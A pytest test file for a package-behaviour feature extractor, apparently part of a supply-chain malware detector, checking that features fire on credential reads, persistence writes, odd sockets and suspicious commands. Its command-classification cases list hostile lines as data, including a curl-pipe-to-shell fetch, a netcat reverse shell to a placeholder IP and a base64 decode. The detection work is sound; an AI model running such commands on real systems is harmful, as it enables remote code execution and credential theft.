"""Each feature fires on the behaviour it documents, after noise removal, and only there."""

from __future__ import annotations

import base64
import math
from pathlib import Path

import orjson
import pyarrow.parquet as pq
import pytest
from dataset_helpers import TOOL_FILES, phase, result_doc, write_labels, write_run

from osptrack.dataset.build import BuildOptions, build
from osptrack.dataset.features import FEATURE_NAMES, classify_command, features_markdown

DOCS = Path(__file__).resolve().parents[2] / "docs" / "features.md"


def _f(path: str, read: bool = True, write: bool = False, delete: bool = False) -> dict[str, object]:
    return {"Path": path, "Read": read, "Write": write, "Delete": delete}


def _features(tmp_path: Path, analysis: dict, **run_kw: object) -> dict[str, float]:
    baseline = tmp_path / "baseline"
    write_run(baseline / "null", "pypi", "osptrack-null", "0.0.0",
              {"install": phase(TOOL_FILES), "import": phase(TOOL_FILES)})  # fmt: skip
    write_run(tmp_path / "runs" / "r", "pypi", "pkg", "1.0", analysis, **run_kw)  # type: ignore[arg-type]
    labels = write_labels(tmp_path / "labels.parquet", [])
    build(
        [tmp_path / "runs"], BuildOptions(labels=labels, out=tmp_path / "out", baseline=baseline, workers=1)
    )
    (row,) = pq.read_table(tmp_path / "out" / "features.parquet").to_pylist()
    return row


def _nonzero(row: dict[str, float]) -> set[str]:
    return {k for k in FEATURE_NAMES if row[k] and not (isinstance(row[k], float) and math.isnan(row[k]))}


def test_benign_run_has_only_counts(tmp_path: Path) -> None:
    row = _features(tmp_path, {"install": phase(TOOL_FILES + [_f("/usr/lib/python3/dist-packages/pkg/a.py",
                                                               write=True)])})  # fmt: skip
    assert _nonzero(row) == {
        "install_present", "install_files_raw_n", "install_files_n", "install_files_read_n",
        "install_files_write_n", "install_time_share",
    }  # fmt: skip
    assert row["install_files_raw_n"] == len(TOOL_FILES) + 1
    assert row["install_files_n"] == 1  # the toolchain's files were baseline noise


@pytest.mark.parametrize(
    ("record", "feature"),
    [
        (_f("/root/.ssh/id_rsa"), "read_ssh_n"),
        (_f("/root/.aws/credentials"), "read_cloud_n"),
        (_f("/home/u/.npmrc"), "read_pkg_tokens_n"),
        (_f("/root/.config/google-chrome/Default/Login Data"), "read_browser_n"),
        (_f("/root/.config/Exodus/exodus.wallet"), "read_wallet_n"),
        (_f("/etc/shadow"), "read_system_accounts_n"),
        (_f("/proc/812/environ"), "read_env_history_n"),
        (_f("/root/.bashrc", read=False, write=True), "write_shell_rc_n"),
        (_f("/root/.config/autostart/x.desktop", read=False, write=True), "write_autostart_n"),
        (_f("/etc/cron.d/job", read=False, write=True), "write_cron_n"),
        (_f("/etc/systemd/system/x.service", read=False, write=True), "write_systemd_n"),
        (_f("/root/.ssh/authorized_keys", read=False, write=True), "write_ssh_keys_n"),
        (_f("/tmp/payload", read=False, write=True), "write_tmp_file_n"),
    ],
)
def test_file_categories(tmp_path: Path, record: dict, feature: str) -> None:
    row = _features(tmp_path, {"import": phase(TOOL_FILES + [record])})
    assert row[f"import_{feature}"] == 1
    assert row[f"install_{feature}"] == 0
    if record["Write"] and not record["Path"].startswith("/tmp"):
        assert row["import_write_outside_tree_n"] == 1


def test_sensitive_read_in_baseline_is_noise(tmp_path: Path) -> None:
    # The toolchain itself reads /etc/passwd (getpwuid); the same read by a package is not evidence.
    baseline = tmp_path / "baseline"
    write_run(baseline / "null", "pypi", "osptrack-null", "0.0.0", {"install": phase([_f("/etc/passwd")])})
    write_run(tmp_path / "runs" / "r", "pypi", "pkg", "1.0",
              {"install": phase([_f("/etc/passwd"), _f("/etc/passwd", read=False, write=True)])})  # fmt: skip
    labels = write_labels(tmp_path / "labels.parquet", [])
    build(
        [tmp_path / "runs"], BuildOptions(labels=labels, out=tmp_path / "out", baseline=baseline, workers=1)
    )
    (row,) = pq.read_table(tmp_path / "out" / "features.parquet").to_pylist()
    assert row["install_read_system_accounts_n"] == 0
    assert row["install_files_n"] == 1  # but writing it is more than the toolchain ever does
    (data,) = pq.read_table(tmp_path / "out" / "dataset.parquet").to_pylist()
    assert [f["Noise"] for f in data["install_Files"]] == [True, False]


@pytest.mark.parametrize(
    ("argv", "classes"),
    [
        (["/bin/sh", "-c", "curl -s http://x.example/p | sh"], {"shell", "downloader"}),
        (["wget", "-q", "http://x.example"], {"downloader"}),
        (["python3", "-c", "import os"], {"interp_inline"}),
        (["node", "-e", "1"], {"interp_inline"}),
        (["bash", "-c", "echo aGk= | base64 -d"], {"shell", "encoder"}),
        (["chmod", "+x", "/tmp/p"], {"chmod_x"}),
        (["chmod", "755", "/tmp/p"], {"chmod_x"}),
        (["chmod", "644", "/tmp/p"], set()),
        (["/tmp/.x/payload"], {"tmp_exec"}),
        (["nc", "-e", "/bin/sh", "203.0.113.1", "4444"], {"netcat"}),
        (["whoami"], {"recon"}),
        (["python3", "setup.py", "install"], set()),
    ],
)
def test_command_classes(argv: list[str], classes: set[str]) -> None:
    assert classify_command(argv) == classes


def test_network_and_bait_features(tmp_path: Path) -> None:
    token = "AKIAOSPTRACKTEST0001"
    analysis = {
        "install": phase(
            sockets=[
                {"Address": "203.0.113.9", "Port": 4444, "Hostnames": []},
                {"Address": "198.18.0.1", "Port": 443, "Hostnames": ["pypi.org"]},
                {"Address": "127.0.0.1", "Port": 8080, "Hostnames": []},
            ],
            commands=[{"Command": ["sh", "-c", "curl x.example"], "Environment": []}],
            dns=[{"Class": "IN", "Queries": [{"Hostname": "files.pythonhosted.org", "Types": ["A"]},
                                             {"Hostname": "c2.example", "Types": ["A"]}]}],
        )
    }  # fmt: skip
    network = [{"kind": "tcp", "first_bytes": base64.b64encode(base64.b64encode(token.encode())).decode()}]
    row = _features(tmp_path, analysis, network=network, honeytokens=[token, "UNSEEN"])
    assert row["install_sockets_raw_ip_n"] == 1  # loopback and named peers are not raw IPs
    assert row["install_sockets_unusual_port_n"] == 2  # 4444 and 8080
    assert row["install_dns_nonregistry_n"] == 1  # pythonhosted.org is PyPI's
    assert row["install_cmd_shell_n"] == 1 and row["install_cmd_downloader_n"] == 1
    assert row["bait_in_payload_n"] == 1  # base64 of the token was on the wire


def test_process_and_timing_features(tmp_path: Path) -> None:
    events = [
        {"t": 1, "pid": 10, "ppid": None, "kind": "process", "op": "exec"},
        {"t": 2, "pid": 11, "ppid": 10, "kind": "process", "op": "exec"},
        {"t": 3, "pid": 12, "ppid": 11, "kind": "process", "op": "exec"},
        {"t": 4, "pid": 13, "ppid": 12, "kind": "process", "op": "exec"},
        {"t": 5, "pid": 12, "ppid": 11, "kind": "process", "op": "exit"},
        {"t": 9, "pid": 13, "ppid": 12, "kind": "process", "op": "exit"},  # outlived its parent
    ]
    row = _features(tmp_path, {"install": phase(), "import": phase()}, events=events,
                    walls={"install": 3.0, "import": 1.0})  # fmt: skip
    assert row["proc_tree_depth_max"] == 4
    assert row["proc_n"] == 4
    assert row["proc_detached_n"] == 1
    assert row["install_time_share"] == pytest.approx(0.75)
    assert row["import_time_share"] == pytest.approx(0.25)
    assert math.isnan(row["execute_time_share"]) is False and row["execute_time_share"] == 0


def test_features_doc_is_generated_from_the_registry() -> None:
    text = DOCS.read_text()
    assert text == features_markdown(), "regenerate: python -m osptrack.dataset.features > docs/features.md"
    for name in FEATURE_NAMES:
        assert f"`{name}`" in text


def test_toolchain_copy_of_a_same_named_package_is_noise(tmp_path: Path) -> None:
    # npm bundles its own chalk; a run of the package `chalk` must not claim npm's reads as its own.
    bundled = _f("/usr/lib/node_modules/npm/node_modules/chalk/index.js")
    baseline = tmp_path / "baseline"
    write_run(baseline / "null", "npm", "osptrack-null", "0.0.0", {"install": phase([bundled])})
    own = _f("/root/project/node_modules/chalk/index.js", write=True)
    write_run(tmp_path / "runs" / "r", "npm", "chalk", "4.1.2", {"install": phase([bundled, own])})
    labels = write_labels(tmp_path / "labels.parquet", [])
    build(
        [tmp_path / "runs"], BuildOptions(labels=labels, out=tmp_path / "out", baseline=baseline, workers=1)
    )
    (data,) = pq.read_table(tmp_path / "out" / "dataset.parquet").to_pylist()
    assert [(f["Template"], f["Noise"]) for f in data["install_Files"]] == [
        ("<SITE>/npm/node_modules/<PKG>/index.js", True),
        ("<SITE>/<PKG>/index.js", False),
    ]


def test_package_manager_temp_folders_are_not_dropped_files(tmp_path: Path) -> None:
    row = _features(
        tmp_path, {"install": phase([_f("/tmp/pip-target-ab12cd34/lib/python/x.py", write=True)])}
    )
    assert row["install_write_tmp_file_n"] == 0 and row["install_write_outside_tree_n"] == 0


def test_run_json_counts_and_nan_for_imports(tmp_path: Path) -> None:
    events = [
        {
            "t": 1,
            "pid": 5,
            "ppid": None,
            "kind": "file",
            "op": "chmod",
            "errno": None,
            "args": ['"/tmp/x"', "0755"],
        },
        {
            "t": 2,
            "pid": 5,
            "ppid": None,
            "kind": "file",
            "op": "chmod",
            "errno": "EPERM",
            "args": ['"/bin/x"', "0755"],
        },
    ]
    row = _features(tmp_path, {"execute": phase([_f("/root/.ssh/id_rsa", read=False, delete=True)])},
                    events=events, exfiltration=2)  # fmt: skip
    assert row["exfiltration_n"] == 2 and row["bait_reads_n"] == 0
    assert row["chmod_exec_events_n"] == 1  # the failed chmod does not count
    assert row["execute_present"] == 1 and row["execute_files_delete_n"] == 1
    assert row["execute_read_ssh_n"] == 0  # a delete is not a read
    # An imported package-analysis result cannot tell any of these: NaN, not zero.
    (tmp_path / "imported").mkdir()
    (tmp_path / "imported" / "r.json").write_bytes(
        orjson.dumps(result_doc("pypi", "pkg", "1.0", {"install": phase([_f("/etc/passwd")])}))
    )
    labels = write_labels(tmp_path / "labels2.parquet", [])
    build([tmp_path / "imported"], BuildOptions(labels=labels, out=tmp_path / "out2", workers=1))
    (imported,) = pq.read_table(tmp_path / "out2" / "features.parquet").to_pylist()
    for name in ("bait_in_payload_n", "exfiltration_n", "proc_tree_depth_max", "install_time_share"):
        assert math.isnan(imported[name]), name
    assert imported["install_read_system_accounts_n"] == 1
